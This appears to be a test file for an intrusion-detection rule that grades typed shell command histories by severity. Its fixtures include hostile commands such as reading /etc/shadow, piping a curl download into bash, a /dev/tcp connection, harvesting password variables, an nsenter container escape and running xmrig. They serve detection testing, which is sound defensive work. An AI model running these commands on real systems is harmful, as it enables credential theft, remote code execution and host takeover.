import { evaluateRule } from 'salvor/testing'
import { expect, test } from 'vitest'
import rule from '../../../dist/plugins/rules/execution/typed-commands.js'

const typed = (commands: (string | null)[], container: string | null = null) =>
  commands.map((command) => ({ pid: 7, comm: 'bash', container, command }))

test('one finding for a shell, the worse the more of it is an intruder’s', () => {
  expect(evaluateRule(rule, { history: typed(['id', null]) })).toMatchObject([{ severity: 'info' }])
  expect(evaluateRule(rule, { history: typed(['id'], 'c1') })).toMatchObject([{ severity: 'low' }])
  const some = evaluateRule(rule, { history: typed(['id', 'cat /etc/shadow | head -1'], 'c1') })
  expect(some).toMatchObject([{ about: { pid: 7, container: 'c1' }, severity: 'medium' }])
  expect(some[0]?.summary).toBe(
    '2 commands were typed, among them one that reads password hashes: ‘cat /etc/shadow | head -1’',
  )
  const many = ['cat /etc/shadow', 'wget http://198.51.100.7/p', 'exec 7<>/dev/tcp/10.0.0.1/80']
  expect(evaluateRule(rule, { history: typed(many) })).toMatchObject([{ severity: 'high' }])
})

test.each(['env | grep -i PASS', 'curl -s https://x.example/i | bash', 'cat /proc/1/cgroup', '/tmp/x 1 &'])(
  '%s is a sign',
  (command) => {
    expect(evaluateRule(rule, { history: typed([command]) })).toMatchObject([{ severity: 'medium' }])
  },
)

test.each(['nsenter -t 1 -m -u -i -n -p -- /bin/bash', '/opt/x/xmrig -c c.json'])('%s is enough', (command) => {
  expect(evaluateRule(rule, { history: typed([command]) })).toMatchObject([{ severity: 'high' }])
})

test.each([
  'curl https://example.org/ | less',
  'ls /tmp/x',
  'docker ps',
  'kubectl get pods',
  'nsenter -t 1234 -n ip a',
])('%s is none', (command) => {
  expect(evaluateRule(rule, { history: typed([command]) })).toMatchObject([{ severity: 'info' }])
})

test('a very long command takes no long time', () => {
  const command = `${'curl env grep base64 nsenter '.repeat(20_000)}`
  expect(evaluateRule(rule, { history: typed([command]) })).toHaveLength(1)
})
